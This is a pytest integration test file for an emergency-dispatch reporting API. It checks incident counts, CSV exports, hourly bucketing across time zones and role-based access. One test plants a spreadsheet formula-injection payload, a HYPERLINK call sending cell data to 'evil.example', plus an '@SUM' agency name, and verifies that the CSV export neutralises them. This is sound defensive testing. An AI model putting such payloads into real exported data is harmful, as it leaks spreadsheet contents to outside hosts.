"""Incident reports over known incidents and dispatches: counts by category, classification,
agency, kecamatan and hour, the CSV export of each, the time range, and who may read them."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from typing import Any

import httpx
import pytest
from sqlalchemy import select
from sqlalchemy.ext.asyncio import async_sessionmaker

from siaga112.agencies.models import Agency
from siaga112.auth.roles import Role
from siaga112.auth.service import system_actor
from siaga112.dispatch.models import Dispatch
from siaga112.incidents.models import Incident
from siaga112.locations.service import add_location
from siaga112.locations.sources import LocationSource
from tests.conftest import auth
from tests.integration.dispatch.conftest import make_key

# A quiet range far from any other test's incidents.
T0 = datetime(2032, 5, 4, 1, 0, tzinfo=UTC)  # 08:00 in Asia/Jakarta
RANGE = {"start": T0.isoformat(), "end": (T0 + timedelta(hours=3)).isoformat()}


def incident(
    offset_min: int,
    *,
    category: str | None,
    classification: str | None,
    kecamatan: str | None,
) -> Incident:
    at = T0 + timedelta(minutes=offset_min)
    return Incident(
        status="new",
        priority=3,
        channel="call",
        category=category,
        classification=classification,
        kecamatan=kecamatan,
        created_by="tests",
        created_at=at,
        updated_at=at,
    )


@pytest.fixture
async def known(sessionmaker: async_sessionmaker) -> None:  # type: ignore[type-arg]
    async with sessionmaker() as session:
        rows = [
            incident(0, category="kebakaran", classification="emergency", kecamatan="Jatiasih"),
            incident(10, category="kebakaran", classification="duplicate", kecamatan="Jatiasih"),
            incident(20, category="kecelakaan", classification="emergency", kecamatan="Koja"),
            incident(70, category=None, classification="prank", kecamatan=None),
            incident(75, category=None, classification=None, kecamatan=None),
            incident(130, category="kecelakaan", classification="emergency", kecamatan="Koja"),
            # Outside the range on either side: never counted.
            incident(-1, category="kebakaran", classification="emergency", kecamatan="Jatiasih"),
            incident(180, category="medis", classification="emergency", kecamatan="Jatiasih"),
        ]
        session.add_all(rows)
        await session.flush()
        agencies = {
            a.code: a.id
            for a in (
                await session.scalars(
                    select(Agency).where(Agency.code.in_(["damkar", "dinkes", "polri"]))
                )
            ).all()
        }

        def dispatch(inc: Incident, code: str, status: str, ack_s: int | None) -> Dispatch:
            return Dispatch(
                incident_id=inc.id,
                agency_id=agencies[code],
                status=status,
                created_by="tests",
                created_at=inc.created_at,
                updated_at=inc.created_at,
                acknowledged_at=(
                    inc.created_at + timedelta(seconds=ack_s) if ack_s is not None else None
                ),
            )

        session.add_all(
            [
                dispatch(rows[0], "damkar", "completed", 30),
                dispatch(rows[2], "dinkes", "acknowledged", 60),
                dispatch(rows[2], "polri", "declined", None),
                dispatch(rows[5], "polri", "sent", None),
                dispatch(rows[6], "damkar", "completed", 10),  # its incident is out of range
            ]
        )
        await session.commit()


def _counts(items: list[dict[str, Any]]) -> dict[str, int]:
    return {i["key"]: i["incidents"] for i in items}


async def test_report_counts_known_incidents_in_range(
    client: httpx.AsyncClient, keys: dict[Role, str], known: None
) -> None:
    r = await client.get("/v1/reports/incidents", headers=auth(keys[Role.INTEGRATOR]), params=RANGE)
    assert r.status_code == 200, r.text
    body = r.json()
    assert body["total"] == 6
    assert _counts(body["by_category"]) == {"kebakaran": 2, "kecelakaan": 2, "uncategorised": 2}
    assert _counts(body["by_classification"]) == {
        "emergency": 3,
        "duplicate": 1,
        "prank": 1,
        "unclassified": 1,
    }
    assert _counts(body["by_kecamatan"]) == {"Jatiasih": 2, "Koja": 2, "unknown": 2}
    agencies = {a["agency_code"]: a for a in body["by_agency"]}
    assert set(agencies) == {"damkar", "dinkes", "polri"}
    assert agencies["damkar"] | {"agency_name": None} == {
        "agency_code": "damkar",
        "agency_name": None,
        "incidents": 1,
        "dispatches": 1,
        "acknowledged": 1,
        "declined": 0,
        "completed": 1,
        "ack_mean_s": 30.0,
    }
    assert (agencies["polri"]["incidents"], agencies["polri"]["declined"]) == (2, 1)
    assert agencies["polri"]["ack_mean_s"] is None
    assert agencies["dinkes"]["acknowledged"] == 1
    # Local hours in Asia/Jakarta (UTC+7): 08:00, 09:00, 10:00.
    assert body["timezone"] == "Asia/Jakarta"
    assert [(h["hour"], h["incidents"]) for h in body["by_hour"]] == [
        ("2032-05-04T08:00:00+07:00", 3),
        ("2032-05-04T09:00:00+07:00", 2),
        ("2032-05-04T10:00:00+07:00", 1),
    ]


async def test_hours_follow_the_tz_parameter(
    client: httpx.AsyncClient, keys: dict[Role, str], known: None
) -> None:
    r = await client.get(
        "/v1/reports/incidents",
        headers=auth(keys[Role.OPERATOR]),
        params=RANGE | {"tz": "Asia/Jayapura"},
    )
    assert r.status_code == 200, r.text
    hours = [h["hour"] for h in r.json()["by_hour"]]
    assert hours[0] == "2032-05-04T10:00:00+09:00"


@pytest.mark.parametrize(
    ("by", "expected"),
    [
        ("category", [["category", "incidents"], ["kebakaran", "2"], ["kecelakaan", "2"],
                      ["uncategorised", "2"]]),
        ("kecamatan", [["kecamatan", "incidents"], ["Jatiasih", "2"], ["Koja", "2"],
                       ["unknown", "2"]]),
        ("hour", [["hour", "incidents"], ["2032-05-04T08:00:00+07:00", "3"],
                  ["2032-05-04T09:00:00+07:00", "2"], ["2032-05-04T10:00:00+07:00", "1"]]),
    ],
)  # fmt: skip
async def test_csv_export_of_one_grouping(
    client: httpx.AsyncClient,
    keys: dict[Role, str],
    known: None,
    by: str,
    expected: list[list[str]],
) -> None:
    r = await client.get(
        "/v1/reports/incidents",
        headers=auth(keys[Role.SUPERVISOR]),
        params=RANGE | {"format": "csv", "by": by},
    )
    assert r.status_code == 200, r.text
    assert r.headers["content-type"].startswith("text/csv")
    assert f"siaga112-incidents-{by}.csv" in r.headers["content-disposition"]
    assert list(csv.reader(io.StringIO(r.text))) == expected


async def test_csv_export_by_agency_and_classification(
    client: httpx.AsyncClient, keys: dict[Role, str], known: None
) -> None:
    h = auth(keys[Role.INTEGRATOR])
    r = await client.get(
        "/v1/reports/incidents", headers=h, params=RANGE | {"format": "csv", "by": "agency"}
    )
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert [(x["agency_code"], x["incidents"], x["declined"]) for x in rows] == [
        ("polri", "2", "1"),
        ("damkar", "1", "0"),
        ("dinkes", "1", "0"),
    ]
    r = await client.get(
        "/v1/reports/incidents",
        headers=h,
        params=RANGE | {"format": "csv", "by": "classification"},
    )
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert {x["classification"]: int(x["incidents"]) for x in rows} == {
        "emergency": 3,
        "duplicate": 1,
        "prank": 1,
        "unclassified": 1,
    }


async def test_agency_keys_may_not_read_reports(
    client: httpx.AsyncClient,
    sessionmaker: async_sessionmaker,  # type: ignore[type-arg]
) -> None:
    key = await make_key(sessionmaker, Role.AGENCY, "damkar")
    r = await client.get("/v1/reports/incidents", headers=auth(key), params=RANGE)
    assert r.status_code == 403
    assert r.json()["code"] == "forbidden"
    r = await client.get("/v1/reports/incidents", params=RANGE)
    assert r.status_code == 401


@pytest.mark.parametrize(
    "params",
    [
        {"start": "2032-05-04T01:00:00", "end": "2032-05-04T02:00:00+00:00"},
        {"start": "2032-05-04T02:00:00+00:00", "end": "2032-05-04T01:00:00+00:00"},
        {"start": "2030-01-01T00:00:00+00:00", "end": "2032-01-01T00:00:00+00:00"},
        RANGE | {"tz": "Mars/Olympus"},
        RANGE | {"format": "csv", "by": "weekday"},
    ],
)
async def test_bad_range_zone_or_grouping_is_422(
    client: httpx.AsyncClient, keys: dict[Role, str], params: dict[str, str]
) -> None:
    r = await client.get("/v1/reports/incidents", headers=auth(keys[Role.ADMIN]), params=params)
    assert r.status_code == 422
    assert r.json()["code"] == "validation_error"


# Another quiet range, for incidents whose kecamatan came from a caller's PIDF-LO.
T1 = datetime(2032, 6, 7, 1, 0, tzinfo=UTC)
RANGE1 = {"start": T1.isoformat(), "end": (T1 + timedelta(hours=1)).isoformat()}
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Jatiasih")'


async def test_csv_exports_neutralise_formulas_from_caller_supplied_data(
    client: httpx.AsyncClient,
    keys: dict[Role, str],
    sessionmaker: async_sessionmaker,  # type: ignore[type-arg]
) -> None:
    async with sessionmaker() as session:
        row = incident(5, category="kebakaran", classification=None, kecamatan=None)
        row.created_at = row.updated_at = T1 + timedelta(minutes=5)
        session.add(row)
        await session.flush()
        # The caller's handset or network put a formula where the kecamatan (civic A3) goes.
        await add_location(
            session=session,
            call_id=None,
            incident_id=row.id,
            source=LocationSource.PIDF_LO,
            lat=-6.3,
            lon=106.97,
            radius_m=30,
            confidence=None,
            method="gps",
            observed_at=T1,
            raw={"parsed": {"civic": {"country": "ID", "A3": FORMULA}}},
            address=None,
            actor=system_actor("tests"),
        )
        agency = Agency(code="t_formula", name="@SUM(1+1) Damkar", kind="other", active=True)
        session.add(agency)
        await session.flush()
        session.add(
            Dispatch(
                incident_id=row.id,
                agency_id=agency.id,
                status="sent",
                created_by="tests",
                created_at=row.created_at,
                updated_at=row.created_at,
            )
        )
        await session.commit()
        stored = row.kecamatan
    assert stored is not None
    assert stored.startswith("=")
    h = auth(keys[Role.INTEGRATOR])
    r = await client.get(
        "/v1/reports/incidents", headers=h, params=RANGE1 | {"format": "csv", "by": "kecamatan"}
    )
    assert r.status_code == 200, r.text
    assert list(csv.reader(io.StringIO(r.text))) == [
        ["kecamatan", "incidents"],
        ["'" + stored, "1"],
    ]
    r = await client.get(
        "/v1/reports/incidents", headers=h, params=RANGE1 | {"format": "csv", "by": "agency"}
    )
    (line,) = list(csv.DictReader(io.StringIO(r.text)))
    assert (line["agency_code"], line["agency_name"]) == ("t_formula", "'@SUM(1+1) Damkar")
    # The JSON report gives the data as it is: only spreadsheets evaluate formulas.
    r = await client.get("/v1/reports/incidents", headers=h, params=RANGE1)
    assert [k["key"] for k in r.json()["by_kecamatan"]] == [stored]


async def test_hours_without_incidents_are_listed_with_zero(
    client: httpx.AsyncClient, keys: dict[Role, str], known: None
) -> None:
    # 07:00 to 13:00 Jakarta: incidents only at 08, 09 and 10.
    params = {
        "start": (T0 - timedelta(minutes=30)).isoformat(),
        "end": (T0 + timedelta(hours=4, minutes=30)).isoformat(),
    }
    h = auth(keys[Role.OPERATOR])
    r = await client.get("/v1/reports/incidents", headers=h, params=params)
    assert r.status_code == 200, r.text
    expected = [
        ("2032-05-04T07:00:00+07:00", 1),  # the incident 1 minute before T0
        ("2032-05-04T08:00:00+07:00", 3),
        ("2032-05-04T09:00:00+07:00", 2),
        ("2032-05-04T10:00:00+07:00", 1),
        ("2032-05-04T11:00:00+07:00", 1),  # T0 + 180 min
        ("2032-05-04T12:00:00+07:00", 0),
    ]
    assert [(x["hour"], x["incidents"]) for x in r.json()["by_hour"]] == expected
    r = await client.get(
        "/v1/reports/incidents", headers=h, params=params | {"format": "csv", "by": "hour"}
    )
    assert [tuple(x) for x in csv.reader(io.StringIO(r.text))][1:] == [
        (hour, str(n)) for hour, n in expected
    ]
    # A zone with a half-hour offset: the hours are its own wall-clock hours.
    r = await client.get("/v1/reports/incidents", headers=h, params=RANGE | {"tz": "Asia/Kolkata"})
    assert [(x["hour"], x["incidents"]) for x in r.json()["by_hour"]] == [
        ("2032-05-04T06:00:00+05:30", 3),
        ("2032-05-04T07:00:00+05:30", 2),
        ("2032-05-04T08:00:00+05:30", 1),
        ("2032-05-04T09:00:00+05:30", 0),
    ]


async def test_hourly_rows_are_given_for_at_most_92_days(
    client: httpx.AsyncClient, keys: dict[Role, str]
) -> None:
    h = auth(keys[Role.OPERATOR])
    start = datetime(2033, 1, 1, tzinfo=UTC)
    long = {"start": start.isoformat(), "end": (start + timedelta(days=93)).isoformat()}
    r = await client.get("/v1/reports/incidents", headers=h, params=long)
    assert r.status_code == 200, r.text
    assert r.json()["by_hour"] is None
    r = await client.get(
        "/v1/reports/incidents", headers=h, params=long | {"format": "csv", "by": "hour"}
    )
    assert r.status_code == 422
    assert r.json()["code"] == "validation_error"
    # Up to the cap, every hour is there.
    ok = {"start": start.isoformat(), "end": (start + timedelta(days=92)).isoformat()}
    r = await client.get("/v1/reports/incidents", headers=h, params=ok)
    assert len(r.json()["by_hour"]) == 92 * 24
